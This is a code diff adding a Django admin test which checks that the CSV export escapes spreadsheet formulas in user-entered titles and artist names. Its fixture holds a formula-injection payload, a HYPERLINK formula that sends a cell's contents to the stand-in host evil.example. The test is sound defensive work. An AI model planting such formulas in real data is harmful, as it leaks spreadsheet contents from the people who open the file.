@@ -175,3 +175,23 @@ def _fields(fieldset):
         for field in line:
             if field.is_readonly:
                 yield field
+
+
+def test_the_csv_export_neutralises_formulas_in_user_text(admin_client_):
+    # Issue 28, point 6: an upload titled "=..." became a live formula in the admin's spreadsheet.
+    DonePredictionFactory(
+        title='=HYPERLINK("http://evil.example/?"&A1,"click")', artist="@SUM(1+1)", reviewed_genre="rock"
+    )
+
+    response = admin_client_.post(
+        CHANGELIST,
+        {
+            "action": "export_reviewed_csv",
+            "_selected_action": list(Prediction.objects.values_list("pk", flat=True)),
+        },
+    )
+
+    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
+    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert row["artist"] == "'@SUM(1+1)"
+    assert row["reviewed_genre"] == "rock"
